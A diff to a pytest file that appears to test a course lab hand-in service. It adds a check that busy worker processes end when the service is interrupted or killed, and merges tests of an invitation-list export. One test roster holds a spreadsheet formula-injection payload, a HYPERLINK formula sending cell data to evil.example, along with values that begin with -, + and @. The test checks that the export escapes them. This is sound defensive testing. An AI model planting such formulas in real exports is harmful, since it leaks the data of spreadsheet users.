@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import random
+import signal
 import subprocess
 import threading
 import time
@@ -27,7 +28,7 @@ pytestmark = [
 ]
 
 HAND_IN = f"/labs/{LAB}/hand-in"
-KILLS = 4
+KILLS = 2
 
 
 def notebook(answers: dict[str, str], mark: object = "") -> bytes:
@@ -124,53 +125,58 @@ def test_a_second_service_does_not_start_on_the_same_folder(served, frozen):
     assert other.returncode == 2 and "Another command is writing" in other.stderr
 
 
-def test_it_ends_when_asked_and_leaves_nobody_behind(served):
-    workers = served.workers()
-    assert workers
-    assert served.stop() == 0
-    until = time.monotonic() + 60
-    left = workers
+def descendants(pid: int) -> set[int]:
+    """The processes that a process has started, directly or not."""
+    found: set[int] = set()
+    for task in Path(f"/proc/{pid}/task").glob("*/children"):
+        for child in map(int, task.read_text().split()):
+            found |= {child} | descendants(child)
+    return found
+
+
+def is_running(pid: int) -> bool:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
+    except OSError:
+        return False
+
+
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
+def test_a_worker_that_is_busy_ends_with_the_service(served, number):
+    endless = answered(LAB, solved(LAB))
+    endless.cells.insert(1, nbformat.v4.new_code_cell(f"open('began', 'w')\nwhile True: {int(number)}"))
+    assert served.ask(HAND_IN, nbformat.writes(endless).encode(), served.tokens["bo"]).status == 201
+    before = descendants(served.process.pid)
+    while not (started := descendants(served.process.pid) - before):  # the submission's own process
+        time.sleep(0.05)
+    served.process.send_signal(number)
+    assert served.process.wait(120) == (0 if number == signal.SIGINT else -number)
+    left, until = started | before, time.monotonic() + 45
     while left and time.monotonic() < until:
-        left = [pid for pid in left if Path(f"/proc/{pid}").exists()]
+        left = set(filter(is_running, left))
         time.sleep(0.1)
     assert not left
     served.start()
 
 
-def test_invitations_are_for_the_class_list_and_made_once(frozen, tmp_path):
-    roster = tmp_path / "roster.csv"
-    roster.write_text("student,name\nada,Ada Lovelace\nbo,Bo\n")
+def test_invitations_are_for_the_class_list_made_once_and_no_formulas_in_a_spreadsheet(frozen, tmp_path):
+    roster, listed = tmp_path / "roster.csv", tmp_path / "out" / "invitations.csv"
+    formula = '"=HYPERLINK(""http://evil.example/?""&E2,""Eve"")",+1@evil.example'
+    roster.write_text(f"student,name,email\nada,Ada Lovelace,\n-eve,{formula}\n")
 
     def invite(*words: object) -> subprocess.CompletedProcess:
         return command("invite", "--out", tmp_path / "out", *words, root=frozen, COURSE_ROSTER=str(roster))
 
-    assert invite("--team", "prof").returncode == 0
-    listed = tmp_path / "out" / "invitations.csv"
+    assert invite("--team", "@prof").returncode == 0
     assert listed.stat().st_mode & 0o777 == 0o600
-    assert [line.split(",")[0] for line in listed.read_text().splitlines()] == [
-        "student",
-        "ada",
-        "bo",
-        "prof",
-    ]
-    assert "Everybody is invited already" in invite().stdout
-    assert "not on the class list" in invite("eve").stderr
-    alone = command("invite", "--out", tmp_path / "alone", "--team", "prof", root=frozen, COURSE_ROSTER="")
-    assert "There is no class list" in alone.stdout and "1 invitations" in alone.stdout
-
-
-def test_an_invitation_is_no_formula_in_a_spreadsheet(frozen, tmp_path):
-    roster, listed = tmp_path / "roster.csv", tmp_path / "out" / "invitations.csv"
-    roster.write_text(
-        'student,name,email\n-eve,"=HYPERLINK(""http://evil.example/?""&E2,""Eve"")",+1@evil.example\n'
-    )
-    done = command(
-        "invite", "--out", tmp_path / "out", "--team", "@prof", root=frozen, COURSE_ROSTER=str(roster)
-    )
-    assert done.returncode == 0, done.stderr
     with listed.open(newline="") as file:
         rows = list(csv.reader(file))
     assert [row[:3] for row in rows[1:]] == [
+        ["ada", "Ada Lovelace", ""],
         ["'-eve", '\'=HYPERLINK("http://evil.example/?"&E2,"Eve")', "'+1@evil.example"],
         ["'@prof", "", ""],
     ]
+    assert "Everybody is invited already" in invite().stdout
+    assert "not on the class list" in invite("mallory").stderr
+    alone = command("invite", "--out", tmp_path / "alone", "--team", "prof", root=frozen, COURSE_ROSTER="")
+    assert "There is no class list" in alone.stdout and "1 invitations" in alone.stdout
